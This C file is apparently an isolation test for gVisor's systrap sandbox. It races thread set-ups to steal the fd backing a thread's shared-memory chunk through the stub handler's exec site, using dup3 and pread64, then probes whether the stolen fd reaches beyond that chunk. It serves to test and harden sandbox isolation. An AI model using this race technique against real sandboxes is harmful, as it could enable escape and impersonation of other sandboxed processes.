/* systrap's shared region: each app thread has a 64 KiB chunk of memory it
 * shares with the sentry (its slot, where it hands over its calls). The
 * sentry maps a thread's chunk into its process at the thread's set-up by
 * passing an fd that backs it: the fd arrives at a low number, is mapped
 * and is closed, all while the process's other threads run. An app can
 * jump to the stub handler's exec site itself, where the filter lets dup3
 * move any fd onto the installed files' numbers and pread64 read them.
 * This program does so from one thread while it starts thread after thread
 * (each one's first trapped call is its set-up), to take that fd in flight.
 * If the fd were the whole region's, the process could read and write the
 * slot of every thread of every process in the sandbox (and so make calls
 * as another process). It must reach no more than the new thread's own
 * chunk: a read 1 GiB into what it took finds the end of the file.
 * On ptrace the site is an ordinary trapped call and there is no region. */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdatomic.h>
#include "escape.h"
#include "exec_site.h"
#include "set_ups.h"

#define TARGET_FD 1002
#define CHUNK (64 * 1024)

static struct site_slot attack_slot;
static uint64_t attack_gregs[32];
static atomic_int stop;
static atomic_int replier_stop; /* after the attacker: its last call needs a reply */
static atomic_long leaked = -1; /* bytes read 1 GiB into a taken fd */
static atomic_long chunks;     /* fds taken that end at 64 KiB: a chunk's */
static atomic_long others;     /* other fds taken (the copy file, 1 MiB) */
static atomic_long tries;

static void *replier(void *arg)
{
	(void)arg;
	while (!atomic_load(&replier_stop))
		site_reply(&attack_slot);
	return 0;
}

/* dup3 each low fd onto TARGET_FD at the exec site; whatever lands there
 * is probed 1 GiB in: the region is 16 GiB, while a chunk's own fd ends at
 * 64 KiB (and the process's copy file, also passed at a low number, at
 * 1 MiB). */
static void *attacker(void *arg)
{
	(void)arg;
	static char buf[16];
	while (!atomic_load(&stop)) {
		for (int fd = 0; fd < 4 && !atomic_load(&stop); fd++) {
			atomic_fetch_add(&tries, 1);
			long r = site_call_at(&attack_slot, attack_gregs, SYS_dup3, fd, TARGET_FD, 0, 0, 0, 0);
			if (r != TARGET_FD)
				continue;
			long first = site_call_at(&attack_slot, attack_gregs, SYS_pread64, TARGET_FD, (long)buf,
						  sizeof buf, 0, 0, 0);
			if (first != (long)sizeof buf)
				continue;
			long past = site_call_at(&attack_slot, attack_gregs, SYS_pread64, TARGET_FD, (long)buf,
						 sizeof buf, 1L << 30, 0, 0);
			long after_chunk = site_call_at(&attack_slot, attack_gregs, SYS_pread64, TARGET_FD,
							(long)buf, sizeof buf, CHUNK, 0, 0);
			if (past > 0) {
				atomic_store(&leaked, past);
				atomic_store(&stop, 1);
			} else {
				atomic_fetch_add(after_chunk == 0 ? &chunks : &others, 1);
			}
		}
	}
	return 0;
}

int main(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	pthread_t a, r;
	pthread_create(&r, 0, replier, 0);
	pthread_create(&a, 0, attacker, 0);
	int started = 0;
	double end = now() + 10;
	while (!atomic_load(&stop) && started < 3000 && now() < end) {
		pthread_t t;
		if (pthread_create(&t, 0, short_lived, 0) != 0)
			break;
		pthread_join(t, 0);
		started++;
	}
	atomic_store(&stop, 1);
	pthread_join(a, 0);
	atomic_store(&replier_stop, 1);
	pthread_join(r, 0);
	long past = atomic_load(&leaked);
	char what[64];
	if (past > 0)
		snprintf(what, sizeof what, "LEAK: %ld bytes read 1 GiB in", past);
	else
		snprintf(what, sizeof what, "no fd past 1 MiB");
	attempt_result("take a new thread's chunk fd at its set-up", "%s (%d set-ups raced, %ld tries, %ld chunk fds and %ld others taken)",
		       what, started, atomic_load(&tries), atomic_load(&chunks), atomic_load(&others));
	finish();
	return 0;
}
